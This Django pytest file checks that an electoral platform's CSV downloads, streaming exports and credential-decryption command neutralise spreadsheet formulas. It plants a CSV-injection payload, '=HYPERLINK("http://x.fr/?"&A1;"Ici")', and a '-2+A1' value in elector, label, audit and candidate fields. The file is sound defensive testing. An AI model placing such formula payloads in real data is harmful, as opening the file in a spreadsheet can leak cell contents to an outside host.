"""Every CSV the platform gives out goes through the one CSV writer (review issue 12.7): a
raison sociale, a label, a finding, an account name or a candidate's name written
``=HYPERLINK(...)`` comes out as text in every CSV download and command, never as a formula;
the large ones stream (issue 19.3)."""

from __future__ import annotations

import base64
import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.http import StreamingHttpResponse
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from typer.testing import CliRunner

from scrutin.platform.audit.journal import record_event
from scrutin.platform.credentials import export
from scrutin.platform.csvexport import FORMULA_LEAD
from scrutin.platform.electoral import imports
from scrutin.platform.electoral.annex7 import generate
from scrutin.platform.electoral.models import Elector, ImportRun, Urn
from scrutin.platform.support.models import ContactLog
from scrutin.platform.tally.fixtures import sample_urn_results
from scrutin.platform.tally.models import TallySession
from scrutin.platform.voting.models import Emargement

from ..accounts.world import make_user

pytestmark = pytest.mark.django_db(databases=["default", "ballotbox"], transaction=True)

FORMULA = '=HYPERLINK("http://x.fr/?"&A1;"Ici")'  # 36 characters: fits every field
SRC = Path(__file__).resolve().parents[3] / "src" / "scrutin"

# Every CSV-producing URL of the platform, by URL name (checked against the URL conf below).
CSV_URLS = {
    "control:emargement-file": "/gestion/pilotage/urne/011-C/emargement.csv",
    "electoral:control-file": "/gestion/cci/011/controle.csv",
    "electoral:run-report-csv": "/gestion/imports/{run}/compte-rendu.csv",
    "audit:csv": "/gestion/journal/export.csv",
    "tally:export resultats.csv": "/gestion/depouillement/export/resultats.csv",
    "tally:export sieges.csv": "/gestion/depouillement/export/sieges.csv",
    "tally:export participation.csv": "/gestion/depouillement/export/participation.csv",
    "support:export": "/gestion/assistance/contacts.csv",
}


def _world(tmp_path: Path) -> tuple[Urn, ImportRun, Any]:
    path = tmp_path / "structure.csv"
    generate.write_csv(path, generate.STRUCTURE_HEADER, generate.structure_rows(
        [("011", "CCI de l'Ain", [("C", "Commerce", "", "", 2, 6)])]))  # fmt: skip
    imports.import_structure(
        ImportRun.objects.create(kind="structure", filename="s", path=str(path))
    )
    path = tmp_path / "electeurs.csv"
    generate.write_csv(path, generate.ELECTORS_HEADER, generate.elector_rows("011", [("C", "")], 5))
    run = ImportRun.objects.create(kind="electors", filename="e", path=str(path))
    imports.import_electors(run)
    urn = Urn.objects.select_related("cci", "category").get(code="011-C")
    voter = Elector.objects.filter(urn=urn).order_by("number").first()
    assert voter is not None
    Elector.objects.filter(pk=voter.pk).update(company_name=FORMULA, usage_name="-2+A1")
    Emargement.objects.create(elector_number=voter.number, urn=urn, voted_at=timezone.now())
    urn.category.label = FORMULA[:45]
    urn.category.save()
    urn.cci.label = FORMULA
    urn.cci.save()
    run.issues.create(line=2, column="RAISON SOCIALE", value=FORMULA, blocking=False,
                      message="@" + FORMULA)  # fmt: skip
    person = get_user_model().objects.create_user(f"{FORMULA}@cci.test")
    record_event("accounts:user:login", actor=person, data={})
    ContactLog.objects.create(requester_name=FORMULA, channel="telephone", contacted_at=timezone.now(),
                              nature="autre", details="@" + FORMULA, cci_code="011", agent=person)  # fmt: skip
    doc = sample_urn_results(3, key=_key(), cci=("011", FORMULA, "Auvergne-Rhône-Alpes"))
    doc["ballots"][0]["candidates"][0]["name"] = FORMULA
    TallySession.objects.create(urn=urn, state="done", results=_resign(doc))
    return urn, run, voter


def _key() -> Any:
    from tests.unit.tally.samples import KEY

    return KEY


def _resign(doc: dict[str, Any]) -> dict[str, Any]:
    from tests.unit.tally.samples import resign

    return resign(doc)


def _cells(body: bytes) -> list[str]:
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text[1:]), delimiter=";") for cell in row]


def _assert_neutralised(cells: list[str], where: str) -> None:
    assert any(c.startswith("'") and FORMULA[1:20] in c for c in cells), where
    formulas = [
        c for c in cells if c.startswith(FORMULA_LEAD) and not re.fullmatch(r"[+-][0-9]+", c)
    ]
    assert not formulas, (where, formulas)


def _csv_url_names() -> set[str]:
    found: set[str] = set()

    def walk(patterns: list[Any], namespace: str) -> None:
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, f"{p.namespace}:" if p.namespace else namespace)
            elif isinstance(p, URLPattern) and re.search(r"csv|<str:fmt>", str(p.pattern)):
                found.add(namespace + str(p.name))

    walk(get_resolver().url_patterns, "")
    return found


def test_review_12_7_every_csv_download_neutralises_formulas(tmp_path: Path) -> None:
    _, run, _ = _world(tmp_path)
    user = make_user("ADMIN", None, national=True, name="national@cci.test")
    user.is_superuser = True
    user.save()
    client = Client()
    client.force_login(user)
    for name, url in CSV_URLS.items():
        response = client.get(url.format(run=run.pk))
        assert response.status_code == 200, (name, response.status_code)
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        body = b"".join(response.streaming_content) if response.streaming else response.content
        _assert_neutralised(_cells(body), name)
    # the set above is every CSV URL of the URL conf (the tally's exports share one pattern)
    assert {n.split(" ")[0] for n in CSV_URLS} >= _csv_url_names() - {"electoral:control"}


def test_review_19_3_large_exports_stream(tmp_path: Path) -> None:
    _world(tmp_path)
    user = make_user("ADMIN", None, national=True, name="national@cci.test")
    user.is_superuser = True
    user.save()
    client = Client()
    client.force_login(user)
    for name in ("control:emargement-file", "audit:csv", "electoral:run-report-csv",
                 "tally:export resultats.csv"):  # fmt: skip
        run = ImportRun.objects.filter(kind="electors").get()
        response = client.get(CSV_URLS[name].format(run=run.pk))
        assert isinstance(response, StreamingHttpResponse), name


def test_review_12_7_credentials_export_and_its_decryption_neutralise_formulas(
    tmp_path: Path,
) -> None:
    from scrutin.cli.main import _register, app

    private, public = export.generate_keypair()
    path = tmp_path / "export.scrutin-identifiants"
    with path.open("wb") as fh:
        writer = export.ExportWriter(fh, public)
        row = ["01100000000001", "ABCDE-FGHIJ-KLMNO", "non", "M.", "-" + FORMULA, "Jean", FORMULA,
               "", "", "", "", "", "01000", "BOURG", "FRANCE", "", "+33612345678"]  # fmt: skip
        writer.write_row(row)
        writer.close()
    rows = list(export.read_rows(path, private))
    assert rows[0][6] == "'" + FORMULA and rows[0][4] == "'-" + FORMULA
    assert rows[0][16] == "+33612345678"  # a plain E.164 number keeps its sign
    key = tmp_path / "operateur.cle"
    key.write_text(base64.b64encode(private).decode() + "\n")
    out = tmp_path / "identifiants.csv"
    _register()
    result = CliRunner().invoke(app, ["credentials", "decrypt-export", str(path), "--key", str(key),
                                      "--out", str(out)])  # fmt: skip
    assert result.exit_code == 0, result.output
    cells = [c for r in csv.reader(io.StringIO(out.read_text("utf-8")), delimiter=";") for c in r]
    assert "'" + FORMULA in cells and FORMULA not in cells


def test_review_12_7_one_csv_writer_in_the_code() -> None:
    """Only the shared writer calls csv.writer (the annex-7 generator writes input test files)."""
    callers = {p.relative_to(SRC).as_posix() for p in SRC.rglob("*.py")
               if "csv.writer(" in p.read_text(encoding="utf-8")}  # fmt: skip
    assert callers == {"platform/csvexport.py", "platform/electoral/annex7/generate.py"}


def test_review_19_3_emargement_rows_read_by_chunks(tmp_path: Path) -> None:
    """Rows come a chunk at a time: one query for the émargements (a cursor read in chunks) and
    one per chunk for the names, never the whole urn's electors at once."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from scrutin.platform.control.services import emargement_rows

    urn, _, _ = _world(tmp_path)
    for e in Elector.objects.filter(urn=urn).exclude(emargement_exists()):
        Emargement.objects.create(elector_number=e.number, urn=urn, voted_at=timezone.now())
    assert Emargement.objects.filter(urn=urn).count() == 5
    with CaptureQueriesContext(connection) as queries:
        rows = emargement_rows(urn, chunk=2)
        next(rows)
        assert sum("electoral_elector" in q["sql"] for q in queries.captured_queries) == 1
        rest = list(rows)
    assert len(rest) == 4
    names = [q["sql"] for q in queries.captured_queries if "electoral_elector" in q["sql"]]
    assert len(names) == 3  # ceil(5 / 2) chunks, each with the numbers of its chunk only
    assert all(" IN (" in sql and sql.count("'011") <= 2 for sql in names)


def emargement_exists() -> Any:
    from django.db.models import Exists, OuterRef

    return Exists(Emargement.objects.filter(elector_number=OuterRef("number")))
